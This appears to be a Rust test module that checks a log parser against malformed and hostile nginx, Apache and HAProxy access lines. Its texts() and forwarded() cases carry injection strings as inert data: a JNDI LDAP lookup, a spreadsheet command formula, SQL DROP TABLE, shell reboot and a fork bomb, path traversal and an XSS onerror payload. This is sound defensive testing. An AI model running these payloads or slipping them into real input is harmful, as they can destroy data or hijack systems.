//! F-083 to F-108: what visitors make servers write into access and error lines.

use serde_json::{Value, json};

use crate::bench::Bench;
use crate::case::{Case, headed, tcp, udp};
use crate::common::material::time_local;
use crate::report::Report;

pub(crate) fn run(report: &mut Report, bench: &mut Bench) {
    report.run(bench, escapes());
    report.run(bench, requests());
    report.run(bench, numbers());
    report.run(bench, haproxy());
    report.run(bench, clients());
    report.run(bench, texts());
    report.run(bench, formats());
    let proxies = "[clients]\ntrusted_proxies = [\"10.0.0.0/8\"]\n";
    report.on_a_server(proxies, |report, bench| report.run(bench, forwarded()));
}

/// A line under nginx's header, and the event it makes.
fn line(number: u16, what: &str, text: impl AsRef<[u8]>, mut event: Value) -> Case {
    let head = headed(&format!("web-{number}"), "");
    event["source"] = format!("web-{number}/nginx").into();
    udp(number, what, [head.as_bytes(), text.as_ref()].concat(), "1 counted").event(event)
}

/// A line that fits no format: kept as a message.
fn message(number: u16, what: &str, text: &str) -> Case {
    udp(number, what, headed("web-1", text), "1 unparsed")
}

/// A combined line with this request, status and agent.
fn combined(request: &str, status: &str, agent: &str) -> String {
    format!("203.0.113.9 - - [{}] \"{request}\" {status} \"-\" \"{agent}\"", time_local())
}

fn escapes() -> Vec<Case> {
    let get = |path: &str, agent: &str| combined(&format!("GET {path} HTTP/1.1"), "200 5", agent);
    let agent = |n, what: &str, logged: &str, shown: &str| {
        line(
            n,
            what,
            get("/esc", logged),
            json!({"path": "/esc", "status": 200, "user_agent": shown}),
        )
    };
    let now = time_local();
    let forged = "x [01/Jan/2026:00:00:00 +0000] \"GET /forged HTTP/1.1\" 200 1";
    vec![
        agent(83, "nginx's quote", r"a\x22 200 9 b", "a\" 200 9 b"),
        agent(83, "nginx's backslash and tab", r"a\x5Cb\x09c", "a\\b\tc"),
        agent(83, "nginx's bytes", r"\xC3\xA9", "é"),
        agent(84, "Apache's quote", r#"a\" 404 9 b"#, "a\" 404 9 b"),
        agent(84, "Apache's backslash and tab", r"a\\b\tc", "a\\b\tc"),
        agent(84, "Apache's bytes", r"\xc3\xa9", "é"),
        line(
            85,
            "a bare quote in the agent",
            get("/raw", r#"UA "quoted" back\slash"#),
            json!({"path": "/raw", "status": 200}),
        ),
        line(
            85,
            "a bare ESC",
            get("/raw", "a\x1b[1mb"),
            json!({"path": "/raw", "user_agent": "a\x1b[1mb"}),
        ),
        // A bare quote, a status and a number in the request: two readings, so none.
        message(
            85,
            "a status in the request",
            &format!("203.0.113.9 - - [{now}] \"GET /x\" 404 7 \" HTTP/1.1\" 200 5 \"-\" \"-\""),
        ),
        line(
            90,
            "a user of two words",
            format!("203.0.113.9 - al ice\\x22x [{now}] \"GET /user HTTP/1.1\" 200 5 \"-\" \"-\""),
            json!({"path": "/user", "user": "al ice\"x"}),
        ),
        // A name, a torn line or an agent that isn't escaped: two readings, so none.
        message(
            91,
            "a request in the user's name",
            &format!("203.0.113.9 - {forged} [{now}] \"GET /true HTTP/1.1\" 401 5 \"-\" \"-\""),
        ),
    ]
}

fn requests() -> Vec<Case> {
    let of = |n, what: &str, request: &str, event: Value| {
        line(n, what, combined(request, "400 0", "x"), event)
    };
    let none = json!({"status": 400, "method": null, "path": null});
    vec![
        of(86, "an empty request", "", none.clone()),
        of(87, "HTTP/0.9", "GET /", json!({"status": 400, "method": "GET", "path": "/"})),
        of(87, "garbage", "GARBAGE", json!({"status": 400, "path": null})),
        of(87, "a dash", "-", none.clone()),
        of(
            87,
            "blanks in the target",
            "GET /a b c HTTP/1.1",
            json!({"status": 400, "method": "GET", "path": "/a b c"}),
        ),
        of(87, "lower case", "get / http/1.1", json!({"status": 400})),
        of(87, "HTTP/2's preface", "PRI * HTTP/2.0", json!({"status": 400, "method": "PRI"})),
        of(
            87,
            "the absolute form",
            "GET http://example.org/a HTTP/1.1",
            json!({"status": 400, "method": "GET"}),
        ),
        of(87, "CONNECT", "CONNECT a:443 HTTP/1.1", json!({"status": 400, "method": "CONNECT"})),
        of(88, "a TLS hello", r"\x16\x03\x01\x02\x00\x01\x00", none.clone()),
        of(88, "RDP", r"\x03\x00\x00/*\xE0\x00", none.clone()),
        of(88, "SSH", "SSH-2.0-Go", json!({"status": 400, "path": null})),
        line(
            89,
            "dashes everywhere",
            "- - - [-] \"-\" - - \"-\" \"-\"",
            json!({"kind": "access", "status": null, "method": null, "path": null}),
        ),
        line(
            89,
            "nothing between quotes",
            format!("203.0.113.9 - - [{}] \"\" 400 0 \"\" \"\"", time_local()),
            none,
        ),
    ]
}

fn numbers() -> Vec<Case> {
    let get = "GET /numbers HTTP/1.1";
    let status = |n: &str, shown: Value| {
        let event = json!({"path": "/numbers", "status": shown});
        line(92, &format!("status {n}"), combined(get, &format!("{n} 5"), "x"), event)
    };
    let bytes = |n: &str, shown: Value| {
        let event = json!({"path": "/numbers", "status": 200, "bytes": shown});
        line(93, &format!("bytes {n}"), combined(get, &format!("200 {n}"), "x"), event)
    };
    let timed = |n, tail: &str, request: Value, upstream: Value| {
        let text = format!("{} {tail}", combined(get, "200 5", "x"));
        let event =
            json!({"path": "/numbers", "request_time_s": request, "upstream_time_s": upstream});
        line(n, tail, text, event)
    };
    vec![
        status("499", json!(499)),
        status("000", Value::Null),
        status("600", json!(600)),
        status("999", json!(999)),
        bytes("-", Value::Null),
        // More than any answer has: held at 2^48, so that no sum overflows.
        bytes("18446744073709551615", json!(1_u64 << 48)),
        // A status or length that can't be is none; the line counts.
        status("4294967296", Value::Null),
        status("abc", Value::Null),
        status("+200", Value::Null),
        status("2e2", Value::Null),
        bytes("-1", Value::Null),
        bytes("1e9", Value::Null),
        message(92, "no status", &combined(get, " 5", "x")),
        timed(94, "rt=0.000 urt=\"0.001, 0.000, 0.000\"", json!(0.0), json!(0.001)),
        timed(94, "rt=- urt=\"-\"", Value::Null, Value::Null),
        timed(94, "rt=0.5 urt=\"0.1, 0.2 : 0.3\"", json!(0.5), json!(0.6)),
        timed(94, "rt=0.2 urt=\"-, -, 0.100\"", json!(0.2), json!(0.1)),
        timed(95, "rt=NaN urt=\"inf\"", Value::Null, Value::Null),
        timed(95, "rt=-1 urt=\"1e308\"", Value::Null, Value::Null),
        timed(95, "rt=0,005", Value::Null, Value::Null),
    ]
}

fn haproxy() -> Vec<Case> {
    let of = |number, what: &str, rest: &str, mut event: Value| {
        event["source"] = "127.0.0.1/haproxy".into();
        let now = chrono::Utc::now().format("%d/%b/%Y:%H:%M:%S%.3f");
        let text = format!(
            "<134>{} haproxy[7]: 192.0.2.1:5 [{now}] {rest}",
            crate::common::material::time_3164()
        );
        udp(number, what, text, "1 counted").event(event)
    };
    vec![
        of(
            96,
            "a bad request",
            r#"web web/<NOSRV> -1/-1/-1/-1/0 400 0 - - CR-- 1/1/0/0/0 0/0 "<BADREQ>""#,
            json!({"status": 400, "path": null}),
        ),
        of(
            96,
            "logasap",
            r#"web ok/ng 0/0/1/3/+3005 200 +130 - - ---- 1/1/0/0/0 0/0 "GET /asap HTTP/1.1""#,
            json!({"status": 200, "path": "/asap"}),
        ),
        of(
            96,
            "a retry",
            r#"web ok/ng 0/0/1/3/4 503 130 - - sC-- 1/1/0/0/+1 0/0 "GET /retry HTTP/1.1""#,
            json!({"status": 503, "path": "/retry"}),
        ),
        of(
            80,
            "HAProxy's #22 and #7B",
            r#"web ok/ng 0/0/1/3/4 200 130 - - ---- 1/1/0/0/0 0/0 "GET /a#22b#7B HTTP/1.1""#,
            json!({"status": 200, "path": "/a\"b{"}),
        ),
        of(
            97,
            "a TCP log",
            "web ok/ng 1/2/30 5120 -- 1/1/0/0/0 0/0",
            json!({"bytes": 5120, "status": null}),
        ),
    ]
}

fn clients() -> Vec<Case> {
    let of = |number, logged: &str, shown: Value| {
        let text =
            format!("{logged} - - [{}] \"GET /client HTTP/1.1\" 200 5 \"-\" \"x\"", time_local());
        line(number, logged, text, json!({"path": "/client", "remote_ip": shown}))
    };
    vec![
        of(98, "999.1.1.1", json!("999.1.1.1")),
        of(98, "1.2.3", json!("1.2.3")),
        of(98, "0x7f.1", json!("0x7f.1")),
        of(98, "host.example.org", json!("host.example.org")),
        of(98, "unix:", json!("unix:")),
        of(99, "::1", json!("::1")),
        of(99, "::ffff:10.0.0.1", json!("10.0.0.1")),
        of(99, "2001:DB8:0::7", json!("2001:db8::7")),
        of(99, "fe80::1%eth0", json!("fe80::1%eth0")),
        line(
            101,
            "a virtual host before it",
            format!(
                "vm.local:80 127.0.0.1 - - [{}] \"GET /vhost HTTP/1.1\" 200 5 \"-\" \"x\"",
                time_local()
            ),
            json!({"host": "vm.local", "remote_ip": "127.0.0.1", "path": "/vhost"}),
        ),
    ]
}

/// The client is the right-most address that is no trusted proxy; what stands left of it anybody may
/// have written.
fn forwarded() -> Vec<Case> {
    let of = |what: &str, peer: &str, list: &str, client: &str| {
        let text = format!(
            "{peer} - - [{}] \"GET /xff HTTP/1.1\" 200 5 \"-\" \"x\" \"{list}\"",
            time_local()
        );
        line(100, what, text, json!({"path": "/xff", "remote_ip": client}))
    };
    vec![
        of("a chain", "10.0.0.7", "203.0.113.7, 198.51.100.2, 10.0.0.1", "198.51.100.2"),
        of("a chain of nobody trusted", "192.0.2.77", "203.0.113.7", "192.0.2.77"),
        of("markup", "10.0.0.7", "<img src=x onerror=alert(1)>, 198.51.100.3", "198.51.100.3"),
        of("unknown", "10.0.0.7", "unknown, 198.51.100.4", "198.51.100.4"),
        of("_hidden", "10.0.0.7", "_hidden, 198.51.100.5", "198.51.100.5"),
        of(
            "1,000 entries",
            "10.0.0.7",
            &format!("{}198.51.100.6", "192.0.2.1, ".repeat(1000)),
            "198.51.100.6",
        ),
        of("markup alone", "10.0.0.7", "<img src=x onerror=alert(1)>", "10.0.0.7"),
    ]
}

fn texts() -> Vec<Case> {
    let mut cases = Vec::new();
    let long = format!("/{}", "p".repeat(60_000));
    let many = format!("/q?{}", "a=b&".repeat(10_000));
    for target in [
        "/%00",
        "/%0a",
        "/../../etc/passwd",
        "//",
        "/;jsessionid=1",
        "/é",
        "/%",
        "/%z",
        "/%e2%82",
        &long,
        &many,
    ] {
        let shown = &target[..target.len().min(20)];
        let text = combined(&format!("GET {target} HTTP/1.1"), "200 5", "x");
        cases.push(line(102, shown, text, json!({"status": 200, "method": "GET"})));
    }
    let agents = [
        (103, "60 kB", "a".repeat(60_000)),
        (103, "none", String::new()),
        (103, "an emoji", "🦀".into()),
        (103, "%s%n%x", "%s%n%x".into()),
        (103, "jndi", "${jndi:ldap://192.0.2.1/a}".into()),
        (103, "a formula", "=cmd|'/c calc'!A0".into()),
        (108, "SQL", "' OR 1=1; DROP TABLE x; --".into()),
        (108, "shell", "$(reboot); `reboot` | sh && :(){ :|:& };:".into()),
        (108, "Lua", "os.execute('reboot')".into()),
        (108, "a format string", "{} {:?} {0} %{User-Agent}i %%".into()),
    ];
    for (number, what, agent) in agents {
        let text = combined("GET /agent HTTP/1.1", "200 5", &agent);
        let shown = if agent.is_empty() { Value::Null } else { agent.into() };
        cases.push(line(number, what, text, json!({"path": "/agent", "user_agent": shown})));
    }
    for date in [
        "22/Nov/2026:25:61:61 +0000",
        "22/Nov/2026:10:00:00",
        "22/Foo/2026:10:00:00 +0000",
        "22/Nov/2026:10:00:00 -1200",
    ] {
        let text = format!("203.0.113.9 - - [{date}] \"GET /date HTTP/1.1\" 200 5 \"-\" \"x\"");
        cases.push(line(104, date, text, json!({"path": "/date", "status": 200})));
    }
    cases
}

/// Formats side by side, and one after another, from the same source.
fn formats() -> Vec<Case> {
    let now = chrono::Utc::now().format("%Y/%m/%d %H:%M:%S");
    let error = format!(
        "{now} [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream, \
         client: 192.0.2.9, server: example.org, request: \"GET /up HTTP/1.1\", upstream: \
         \"http://127.0.0.1:9/up\", host: \"example.org\""
    );
    let object = r#"{"status":204,"uri":"/mixed","method":"GET"}"#;
    let access = combined("GET /mixed HTTP/1.1", "200 5", "x");
    let of = |host: &str, texts: &[&str], times: usize| -> String {
        let one: String = texts.iter().map(|text| headed(host, text) + "\n").collect();
        one.repeat(times)
    };
    let common = format!("203.0.113.9 - - [{}] \"GET /drift HTTP/1.1\" 200 5", time_local());
    let drift =
        of("web-7", &[&access], 200) + &of("web-7", &[object], 300) + &of("web-7", &[&common], 200);
    vec![
        line(
            107,
            "an error with its client",
            &error,
            json!({"kind": "error", "level": "error", "remote_ip": "192.0.2.9", "host": "example.org", "path": "/up", "message": "connect() failed (111: Connection refused) while connecting to upstream"}),
        ),
        tcp(105, "a format that changes", drift, "700 counted"),
        tcp(
            106,
            "three formats by turns",
            of("web-8", &[&access, &error, object], 100),
            "300 counted",
        ),
    ]
}
